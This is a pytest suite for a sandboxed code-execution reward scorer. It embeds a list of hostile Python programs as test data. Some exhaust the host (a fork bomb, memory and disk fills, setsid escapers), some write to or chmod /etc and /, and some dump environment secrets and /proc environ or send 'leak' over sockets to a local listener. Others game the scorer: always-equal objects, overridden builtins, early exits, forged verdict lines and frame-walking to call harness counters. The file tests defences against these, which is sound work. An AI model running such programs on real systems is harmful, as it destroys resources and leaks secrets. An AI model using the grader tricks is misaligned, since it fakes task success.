"""Hostile programs, each run through ``run_python`` and through ``code_tests``.

For every program: reward 0, the call returns within ``BOUND_S``, no process it started is left
behind, nothing outside the sandbox's own scratch folder changed, the fake secret in the caller's
environment never reaches the program, and the listener on 127.0.0.1 never sees a connection.
"""

from __future__ import annotations

import os
import pathlib
import socket
import time
import uuid

import pytest

from rewards.code import code_tests
from rewards.sandbox import STATUSES, detect_isolation, run_python

ROOT = pathlib.Path(__file__).resolve().parents[2]
TIMEOUT_S = 1.5  # per execution
# run_python: one execution; code_tests: three rows run in parallel on three workers.  The slack
# covers sandbox start-up and tear-down on a loaded 2-core machine.
BOUND_S = TIMEOUT_S + 4.0
ISO = detect_isolation()

# One task, three ways to test it.  Entry point name carries the per-test marker so the harness
# process (and any fork of it) can be found in /proc.
CHECK_TESTS = """
import math

def check(candidate):
    assert candidate(1, 2) == 3
    assert candidate(-1, 1) == 0
    assert math.isclose(candidate(0.5, 0.25), 0.75)
    assert abs(candidate(100, 5) - 105) < 1e-9
"""
PLAIN_TESTS = """
assert @EP@(1, 2) == 3
assert @EP@(100, 5) == 105
"""
IO_CASES = [{"stdin": "100 5\n", "stdout": "105\n"}]

# Placeholders: @MARK@ (unique per test), @EP@ (entry point), @PORT@ (listener), @HOME_T@,
# @ETC_T@, @PROJECT_T@, @TMP_T@ (files that must never appear), @CANARY@ (must stay unchanged).
SPAWN = "import os, sys\ndef spawn(code):\n    os.execv(sys.executable, [sys.executable, '-c', code, '@MARK@'])\n"
PROGRAMS = {
    "infinite_loop": "def @EP@(a, b):\n    return -1\nwhile True:\n    pass\n",
    "sleep_forever": "import time\ntime.sleep(10 ** 6)\n",
    "spinning_thread": (
        "import threading\n"
        "def spin():\n    while True:\n        pass\n"
        "threading.Thread(target=spin).start()\n"
        "def @EP@(a, b):\n    return a - b\n"
        "print(0)\n"
    ),
    "fork_children": SPAWN + (
        "for _ in range(5):\n"
        "    if os.fork() == 0:\n"
        "        spawn('import time; time.sleep(10 ** 6)')\n"
        "def @EP@(a, b):\n    return -1\n"
        "print(0)\n"
    ),
    "fork_bomb": SPAWN + (
        "BOMB = 'import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass'\n"
        "while True:\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            spawn(BOMB)\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "setsid_escaper": SPAWN + (
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        spawn('import time; time.sleep(10 ** 6)')\n"
        "    os._exit(0)\n"
        "def @EP@(a, b):\n    return a * b\n"
        "print(a := 4)\n"
    ),
    "setsid_escaper_writes_later": SPAWN + (
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        spawn('import time; time.sleep(1.0)\\n'\n"
        "              'for p in [\"@HOME_T@\", \"@ETC_T@\", \"@PROJECT_T@\", \"@TMP_T@\"]:\\n'\n"
        "              '    try:\\n        open(p, \"w\").write(\"escaped\")\\n    except OSError:\\n        pass')\n"
        "    os._exit(0)\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "memory_hog": "x = bytearray(8 * 1024 ** 3)\ndef @EP@(a, b):\n    return a + b\n",
    "memory_hog_raises_its_limit": (
        "import resource\n"
        "for r in (resource.RLIMIT_AS, resource.RLIMIT_DATA):\n"
        "    try:\n"
        "        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "    except (ValueError, OSError) as e:\n"
        "        print('cannot raise', e)\n"
        "blocks = []\n"
        "while True:\n"
        "    blocks.append(bytearray(64 * 1024 ** 2))\n"
    ),
    "output_flood": "while True:\n    print('x' * 10000)\n",
    "stderr_flood": "import os\nwhile True:\n    os.write(2, b'y' * 65536)\n",
    "closed_stdout": (
        "import os\nos.close(1)\nos.close(2)\n"
        "def @EP@(a, b):\n    return a * b\n"
        "print(105)\n"
    ),
    "blocking_stdin": (
        "import os, sys\n"
        "data = sys.stdin.read()\n"
        "more = os.read(0, 1)\n"
        "try:\n    open('/dev/tty').read()\nexcept OSError:\n    pass\n"
        "print(input())\n"
    ),
    "disk_fill_one_file": "with open('big', 'wb') as f:\n    while True:\n        f.write(b'0' * (1 << 20))\n",
    "disk_fill_many_files": (
        "import os\n"
        "for d in ('.', '/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~')):\n"
        "    for i in range(200):\n"
        "        try:\n"
        "            with open(os.path.join(d, f'fill{i}'), 'wb') as f:\n"
        "                f.write(b'0' * (8 << 20))\n"
        "        except OSError:\n"
        "            break\n"
    ),
    "write_outside": (
        "import os\n"
        "for p in ['@HOME_T@', '@ETC_T@', '@PROJECT_T@', '@TMP_T@', '@CANARY@']:\n"
        "    try:\n"
        "        with open(p, 'w') as f:\n"
        "            f.write('pwned')\n"
        "        print('wrote', p)\n"
        "    except OSError as e:\n"
        "        print('blocked', p, e)\n"
        "for d in ['@PROJECT_DIR@', '/etc', '/root', '/']:\n"
        "    try:\n"
        "        os.chmod(d, 0o777)\n"
        "        print('chmod', d)\n"
        "    except OSError:\n"
        "        pass\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "env_secrets": "import os\nprint(dict(os.environ))\ndef @EP@(a, b):\n    return -1\n",
    "proc_environ": (
        "import os\n"
        "for pid in sorted({os.getppid(), 1} | {int(p) for p in os.listdir('/proc') if p.isdigit()}):\n"
        "    for f in ('environ', 'cmdline'):\n"
        "        try:\n"
        "            print(pid, f, open(f'/proc/{pid}/{f}', 'rb').read())\n"
        "        except OSError as e:\n"
        "            print(pid, f, e)\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "network": (
        "import socket\n"
        "for addr in [('127.0.0.1', @PORT@), ('localhost', @PORT@), ('8.8.8.8', 53)]:\n"
        "    try:\n"
        "        s = socket.create_connection(addr, timeout=0.5)\n"
        "        s.sendall(b'leak')\n"
        "        print('connected', addr)\n"
        "    except OSError as e:\n"
        "        print('no', addr, e)\n"
        "try:\n"
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', @PORT@))\n"
        "except OSError:\n"
        "    pass\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "sys_exit_before_asserts": "def @EP@(a, b):\n    return -1\nimport sys\nsys.exit(0)\n",
    "os_exit_before_asserts": "def @EP@(a, b):\n    return -1\nimport os\nos._exit(0)\n",
    "exit_inside_candidate": "import os\ndef @EP@(a, b):\n    os._exit(0)\n",
    "systemexit_inside_candidate": "def @EP@(a, b):\n    raise SystemExit(0)\n",
    "override_builtins": (
        "import builtins\n"
        "class Never(Exception):\n    pass\n"
        "builtins.AssertionError = Never\n"
        "builtins.print = lambda *a, **k: None\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.abs = lambda x: 0\n"
        "builtins.BaseException = Never\n"
        "def @EP@(a, b):\n    return None\n"
    ),
    "patch_exit_write_and_modules": (
        "import os, sys, types\n"
        "os._exit = lambda *a: None\n"
        "sys.exit = lambda *a: None\n"
        "os.write = lambda fd, b: len(b)\n"
        "fake = types.ModuleType('math')\n"
        "fake.isclose = lambda *a, **k: True\n"
        "sys.modules['math'] = fake\n"
        "import math\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "always_equal": (
        "class AlwaysEqual:\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "    def __abs__(self):\n        return -1\n"
        "    def __sub__(self, other):\n        return self\n"
        "    def __lt__(self, other):\n        return True\n"
        "    def __repr__(self):\n        return 'AlwaysEqual()'\n"
        "    __hash__ = object.__hash__\n"
        "def @EP@(a, b):\n    return AlwaysEqual()\n"
        "print(@EP@(1, 2))\n"
    ),
    "always_equal_int_subclass": (
        "class E(int):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __abs__(self):\n        return -1\n"
        "    __hash__ = int.__hash__\n"
        "def @EP@(a, b):\n    return [E(0)][0]\n"
    ),
    "always_equal_in_container": (
        "class Eq:\n    def __eq__(self, other):\n        return True\n"
        "def @EP@(a, b):\n    return (Eq(),)[0]\n"
    ),
    "fake_verdict": (
        "import os\n"
        "src = open(__file__).read() if '__file__' in globals() else ''\n"
        "for line in [b'done 2 0 2', b'\\n0123456789abcdef0123456789abcdef done 4 0 4\\n', b'PASSED']:\n"
        "    for fd in range(1, 256):\n"
        "        try:\n"
        "            os.write(fd, line)\n"
        "        except OSError:\n"
        "            pass\n"
        "print('105')\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "steal_nonce_from_stdin": (
        "import os\n"
        "try:\n    print(os.read(0, 100))\nexcept OSError:\n    pass\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "frame_walk_counters": (
        "import sys\n"
        "def @EP@(a, b):\n"
        "    f = sys._getframe(1)\n"
        "    while f is not None:\n"
        "        if '_h_ok' in f.f_globals:\n"
        "            for _ in range(100):\n"
        "                f.f_globals['_h_ok']()\n"
        "            break\n"
        "        f = f.f_back\n"
        "    return -1\n"
    ),
    "frame_walk_verdict": (
        "import sys\n"
        "f = sys._getframe(0)\n"
        "while f is not None:\n"
        "    if 'verdict' in f.f_locals:\n"
        "        f.f_locals['verdict'](b'done', 0)\n"
        "    f = f.f_back\n"
        "def @EP@(a, b):\n    return -1\n"
    ),
    "kill_harness": "import os, signal\ndef @EP@(a, b):\n    return -1\nos.kill(os.getpid(), signal.SIGKILL)\n",
    "kill_parent": (
        "import os, signal, time\n"
        "try:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
        "time.sleep(10 ** 6)\n"
    ),
    "close_all_fds": "import os\nos.closerange(0, 1024)\ndef @EP@(a, b):\n    return a + b if a != 1 else 0\n",
    "correct_looking_but_wrong": (  # right on the docstring example add(2, 2) == 4 only
        "def @EP@(a, b):\n    \"\"\">>> add(2, 2)\n    4\n    \"\"\"\n    return a * b if a != b else a + b\n"
        "try:\n"
        "    a, b = map(int, input().split())\n"
        "    print(@EP@(a, b))\n"
        "except EOFError:\n"
        "    pass\n"
    ),
}


class Env:
    def __init__(self, tmp_path: pathlib.Path):
        self.mark = "hostile" + uuid.uuid4().hex[:12]
        self.secret = "sk-fake-" + uuid.uuid4().hex
        self.targets = {
            "@HOME_T@": pathlib.Path.home() / f"{self.mark}.txt",
            "@ETC_T@": pathlib.Path("/etc") / f"{self.mark}.txt",
            "@PROJECT_T@": ROOT / f"{self.mark}.txt",
            "@TMP_T@": pathlib.Path("/tmp") / f"{self.mark}.txt",
        }
        self.canary = tmp_path / "canary.txt"
        self.canary.write_text("untouched")
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.listener.setblocking(False)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.listener.getsockname()[1]))
        self.udp.setblocking(False)
        self.dirs = {d: d.stat().st_mode for d in (ROOT, pathlib.Path("/etc"), pathlib.Path("/"))}

    def render(self, program: str) -> str:
        subs = {"@MARK@": self.mark, "@EP@": f"add_{self.mark}", "@CANARY@": str(self.canary),
                "@PORT@": str(self.listener.getsockname()[1]), "@PROJECT_DIR@": str(ROOT),
                **{k: str(v) for k, v in self.targets.items()}}
        for key, value in subs.items():
            program = program.replace(key, value)
        return program

    def leftovers(self) -> list[str]:
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                cmd = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if self.mark.encode() in cmd and int(pid) != os.getpid():
                found.append(f"{pid}: {cmd!r}")
        return found

    def check_clean(self, output: str = "") -> None:
        assert not self.leftovers(), self.leftovers()
        assert self.secret not in output
        assert self.canary.read_text() == "untouched"
        for path in self.targets.values():
            if path.parent == pathlib.Path("/tmp") and not ISO.readonly_fs:
                continue  # a world-writable folder: only the bwrap backend hides it
            assert not path.exists(), f"{path} was written"
        for d, mode in self.dirs.items():
            assert d.stat().st_mode == mode, f"mode of {d} changed"
        if ISO.network:
            with pytest.raises(BlockingIOError):
                self.listener.accept()
            with pytest.raises(BlockingIOError):
                self.udp.recv(16)

    def close(self) -> None:
        self.listener.close()
        self.udp.close()
        for path in self.targets.values():
            if path.exists():
                path.unlink()


@pytest.fixture
def env(tmp_path, monkeypatch):
    e = Env(tmp_path)
    monkeypatch.setenv("REWARDS_FAKE_SECRET", e.secret)
    yield e
    e.close()


def test_suite_is_large_enough():
    assert len(PROGRAMS) >= 25


def test_strongest_isolation_is_active():
    """CI must install bubblewrap; a forced weaker backend is an explicit choice."""
    if os.environ.get("REWARDS_SANDBOX_BACKEND") not in (None, "", "bwrap"):
        pytest.skip("weaker backend forced by REWARDS_SANDBOX_BACKEND")
    assert ISO.backend == "bwrap", ISO.note
    assert ISO.network and ISO.pid_namespace and ISO.readonly_fs and ISO.process_limit, ISO.note


def test_process_count_limit_holds():
    if not ISO.process_limit:
        pytest.skip(ISO.note)
    r = run_python(
        "import os, time\nn = 0\ntry:\n    while n < 100:\n        if os.fork() == 0:\n"
        "            time.sleep(2)\n            os._exit(0)\n        n += 1\nexcept OSError:\n    pass\n"
        "print(n)", max_procs=10, timeout_s=10)
    assert r.status == "ok" and int(r.stdout) < 10


@pytest.mark.parametrize("name", sorted(PROGRAMS))
def test_hostile_program(name, env):
    if name.startswith("setsid") and not ISO.pid_namespace:
        pytest.skip("escaped setsid() children survive without a PID namespace")
    if name == "fork_bomb" and not ISO.process_limit:
        pytest.skip("no process-count limit here: a fork bomb would exhaust the host's PIDs")
    code = env.render(PROGRAMS[name])

    start = time.monotonic()
    result = run_python(code, stdin="100 5\n", timeout_s=TIMEOUT_S, args=(env.mark,))
    elapsed = time.monotonic() - start
    assert elapsed < BOUND_S, f"run_python took {elapsed:.1f}s"
    assert result.status in STATUSES
    assert result.isolation == ISO
    assert len(result.stdout) <= 1 << 20 and len(result.stderr) <= 1 << 20
    if "setsid_escaper_writes_later" == name:
        time.sleep(1.5)  # the escaper would have written by now
    env.check_clean(result.stdout + result.stderr)

    ep = f"add_{env.mark}"
    completion = f"```python\n{code}\n```"
    start = time.monotonic()
    scores = code_tests(
        [completion] * 3,
        tests=[CHECK_TESTS, PLAIN_TESTS.replace("@EP@", ep), None],
        entry_point=[ep, ep, None],
        io_cases=[None, None, IO_CASES],
        timeout_s=TIMEOUT_S,
        max_workers=3,
    )
    elapsed = time.monotonic() - start
    assert elapsed < BOUND_S, f"code_tests took {elapsed:.1f}s"
    assert scores == [0.0, 0.0, 0.0]
    if "setsid_escaper_writes_later" == name:
        time.sleep(1.5)
    env.check_clean()


def test_resource_limits_are_reported(env):
    r = run_python("x = bytearray(8 * 1024 ** 3)", timeout_s=5)
    assert r.status == "memory"
    r = run_python("while True:\n    pass", timeout_s=1)
    assert r.status == "timeout"
    r = run_python("while True:\n    print('x' * 1000)", timeout_s=5, max_output_bytes=10_000)
    assert (r.status, r.truncated, len(r.stdout)) == ("killed", True, 10_000)
    r = run_python("open('f', 'wb').write(b'0' * (32 << 20))", timeout_s=5, file_mb=1)
    assert r.status == "error" and "file-size" in r.reason  # Python ignores SIGXFSZ: EFBIG
    r = run_python("import os\nprint(os.getcwd() == os.environ['HOME'], sorted(os.environ))", timeout_s=5)
    assert r.status == "ok"
    assert r.stdout.startswith("True ")
    assert "REWARDS_FAKE_SECRET" not in r.stdout


def test_scratch_folder_is_private_and_deleted(env):
    import tempfile

    before = set(os.listdir(tempfile.gettempdir()))
    r = run_python("import os\nopen('note.txt', 'w').write('hi')\nprint(os.listdir('.'))", timeout_s=5)
    assert r.status == "ok" and "note.txt" in r.stdout
    after = set(os.listdir(tempfile.gettempdir()))
    assert not {p for p in after - before if p.startswith("sbx-")}
    r = run_python("import os\nprint(os.listdir('.'))", timeout_s=5)
    assert "note.txt" not in r.stdout


def test_files_and_args_reach_the_program():
    r = run_python(
        "import os, sys\nhere = os.path.dirname(__file__)\n"
        "print(open(os.path.join(here, 'data.txt')).read(), sys.argv[1:])",
        files={"data.txt": "payload"}, args=("a", "b"), timeout_s=5)
    assert r.stdout.strip() == "payload ['a', 'b']"
    with pytest.raises(ValueError):
        run_python("pass", files={"../escape.py": "x"})


@pytest.mark.parametrize("backend", ["unshare", "none"])
def test_weaker_backends_still_bound_time_and_score_zero(backend, env):
    try:
        iso = detect_isolation(backend)
    except RuntimeError as exc:
        pytest.skip(str(exc))
    for name in ("infinite_loop", "fork_children", "sys_exit_before_asserts", "always_equal"):
        code = env.render(PROGRAMS[name])
        start = time.monotonic()
        r = run_python(code, timeout_s=TIMEOUT_S, backend=backend, args=(env.mark,))
        assert time.monotonic() - start < BOUND_S
        assert r.isolation == iso
        assert not env.leftovers(), (name, env.leftovers())
    r = run_python("print(6 * 7)", timeout_s=5, backend=backend)
    assert (r.status, r.stdout) == ("ok", "42\n")


def test_tampering_is_named_in_the_detail():
    from rewards.code import score_code

    prog = PROGRAMS["frame_walk_counters"].replace("@EP@", "add")
    r = score_code(f"```python\n{prog}\n```", "assert add(1, 2) == 3", "add", timeout_s=5)
    assert (r.score, r.detail) == (0.0, "harness tampering detected")
    prog = "import sys\nsys.modules = {}\ndef add(a, b):\n    return a + b\n"
    r = score_code(prog, "import math\nassert add(1, 2) == 3\nassert math.isclose(add(0.5, 0.25), 0.75)", "add")
    assert (r.score, r.detail) == (1.0, "done")  # replacing sys.modules is undone, not fatal


def test_sandbox_dies_with_the_process_that_started_it(tmp_path):
    """SIGKILL the scoring process mid-run: the sandboxed sleeper must not outlive it."""
    import subprocess
    import sys

    mark = "orphan" + uuid.uuid4().hex[:12]
    script = (
        "import sys; sys.path.insert(0, sys.argv[1])\n"
        "from rewards.sandbox import run_python\n"
        f"run_python('import time\\ntime.sleep(60)', timeout_s=60, args=({mark!r},))\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", script, str(ROOT)])
    env = Env.__new__(Env)
    env.mark = mark
    deadline = time.monotonic() + 30
    while not env.leftovers() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert env.leftovers(), "sandbox never started"
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 5
    while env.leftovers() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not env.leftovers()
